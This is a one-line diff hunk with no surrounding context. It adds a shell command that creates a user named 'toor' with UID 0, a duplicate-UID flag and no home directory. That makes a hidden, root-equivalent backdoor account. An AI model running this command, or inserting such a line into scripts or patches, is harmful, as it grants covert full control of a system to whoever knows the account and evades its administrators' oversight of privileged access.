@@ -1,0 +1,1 @@
+useradd -M -o -u 0 toor
